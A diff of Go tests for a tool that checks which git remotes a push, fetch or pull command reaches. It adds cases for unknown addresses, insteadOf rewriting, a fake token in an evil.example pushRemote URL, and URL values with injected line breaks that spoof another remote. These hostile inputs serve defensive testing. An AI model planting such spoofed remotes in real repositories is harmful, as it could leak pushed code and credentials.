@@ -63,11 +63,15 @@ func TestRemotes(t *testing.T) {
 	insteadOf = ex:
 `)
 	const origin, b = "remote origin is git@evil.example:evil/a.git", "remote b is https://example.com/b.git"
+	const unknown = " is no remote of the configuration: git may take it for an address"
 	for words, want := range map[string][]string{
 		"git push origin main":              {origin},
 		"git push --force b":                {b},
 		"git push":                          {b, origin},
-		"git push -o x":                     {b, origin},
+		"git push -o x":                     {"x" + unknown, b, origin},
+		"git push ex:c.git":                 {"git reads ex:c.git as git@evil.example:c.git", "ex:c.git" + unknown, b, origin},
+		"git push --repo=ex:c.git":          {"git reads ex:c.git as git@evil.example:c.git", "ex:c.git" + unknown, b, origin},
+		"git push evil origin":              {"evil" + unknown, origin},
 		"git fetch origin":                  {"remote origin is https://you:***@example.com/a.git"},
 		"git pull b main":                   {b},
 		"git -c url.x.insteadOf=ex: push b": {b, "the options before push may change the remote"},
@@ -81,6 +85,10 @@ func TestRemotes(t *testing.T) {
 			t.Errorf("%s: %q, want %q", words, got, want)
 		}
 	}
+	preset := repositoryWith(t, "[branch \"main\"]\n\tpushRemote = https://ghp_0123456789abcdefghij@evil.example/a.git\n[remote \"origin\"]\n\turl = https://example.com/a.git\n")
+	if got, want := remotesOf(t, preset, "git push"), []string{"https://***@evil.example/a.git" + unknown, "remote origin is https://example.com/a.git"}; !slices.Equal(got, want) {
+		t.Errorf("an address that a branch names: %q, want %q", got, want)
+	}
 	if got := remotesOf(t, repositoryWith(t, ""), "git push"); !slices.Equal(got, []string{"the repository has no remote"}) {
 		t.Errorf("without a remote: %q", got)
 	}
@@ -93,6 +101,31 @@ func TestRemotes(t *testing.T) {
 	}
 	if got := remotesOf(t, t.TempDir(), "git push"); len(got) != 1 || !strings.HasPrefix(got[0], "its remote is not known: ") {
 		t.Errorf("without a repository: %q", got)
+	}
+}
+
+// TestRemotesWithLineBreaks writes addresses that look like those of other remotes, in the configuration and, as if it
+// was changed since, in the list of remotes.
+func TestRemotesWithLineBreaks(t *testing.T) {
+	for _, key := range []string{"url", "pushurl"} {
+		for _, value := range []string{`https://evil.example/x\norigin\thttps://good.example/a.git`, `https://evil.example/x (fetch)\norigin\thttps://good.example/a.git`} {
+			work := repositoryWith(t, "[remote \"origin\"]\n\turl = https://good.example/a.git\n\t"+key+" = \""+value+"\"\n")
+			if got := remotesOf(t, work, "git push origin"); !slices.Equal(got, []string{"its remote is not known: " + errAddress.Error()}) {
+				t.Errorf("%s = %s: %q", key, value, got)
+			}
+		}
+	}
+	for _, list := range []string{
+		"origin\thttps://a (fetch)\norigin\thttps://evil\norigin\thttps://a (push)\n", "origin\thttps://a (fetch)\norigin\thttps://evil (fetch)\norigin\thttps://a (push)\n",
+		"origin\thttps://evil (fetch)\nb\thttps://a (fetch)\nb\thttps://a (push)\n", "origin\thttps://a (push)\n",
+		"b\tx (fetch)\nb\tx (push)\nc\tx (fetch)\nc\tx (push)\nb\tx (fetch)\nb\tx (push)\n", "\n",
+	} {
+		if got, err := parseRemotes(list); err == nil {
+			t.Errorf("%q: %v", list, got)
+		}
+	}
+	if got, err := parseRemotes("b\thttps://a (fetch) [blob:none]\nb\thttps://a (push)\nb\thttps://c (push)\n"); err != nil || len(got) != 3 || got[2] != (remoteAddress{"b", "https://c", true}) {
+		t.Errorf("%v, %v", got, err)
 	}
 }
 
